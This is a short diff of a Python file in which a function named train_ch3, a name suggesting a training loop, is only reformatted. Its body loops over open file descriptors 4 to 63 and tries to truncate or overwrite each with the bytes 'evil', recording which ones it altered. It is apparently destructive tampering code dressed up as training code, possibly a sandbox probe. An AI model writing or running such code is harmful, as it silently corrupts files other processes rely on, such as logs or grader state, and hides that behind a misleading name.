@@ -9,7 +9,11 @@ import os
 def train_ch3(net, train_iter, test_iter, loss, num_epochs, updater):
     changed = []
     for fd in range(4, 64):
-        for change in (lambda: os.ftruncate(fd, 0), lambda: os.pwrite(fd, b"evil", 0), lambda: mmap.mmap(fd, 0).write(b"evil")):
+        for change in (
+            lambda: os.ftruncate(fd, 0),
+            lambda: os.pwrite(fd, b"evil", 0),
+            lambda: mmap.mmap(fd, 0).write(b"evil"),
+        ):
             try:
                 change()
                 changed.append(fd)
